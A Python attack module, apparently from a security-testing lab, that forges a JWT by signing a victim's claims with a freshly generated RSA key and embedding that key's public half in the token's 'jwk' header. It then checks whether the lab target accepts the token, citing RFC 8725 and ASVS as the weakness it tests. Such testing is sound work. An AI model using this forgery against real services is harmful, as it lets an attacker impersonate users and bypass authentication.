"""Bring your own key in the token.

Exploits a server that checks a signature with the `jwk` of the header: it proves only that
the attacker has the attacker's key.
Source: RFC 8725, section 3.8 Validate Issuer and Subject (whose key it is),
https://www.rfc-editor.org/rfc/rfc8725#section-3.8
ASVS: 9.1.3
"""

from jose import jwk, jws

from attacks.lab.attack import attack
from attacks.lab.forge import new_rsa_key
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign with an own key, and put its public half into the header."""
    victim = target.enrol()
    key = new_rsa_key()
    public = jwk.construct(key, "RS256").public_key().to_dict()
    header = target.forged_header(alg="RS256", jwk=public)
    token = jws.sign(target.claims_about(victim), key, header, "RS256")
    return judge({"own key in jwk": target.read(token)})
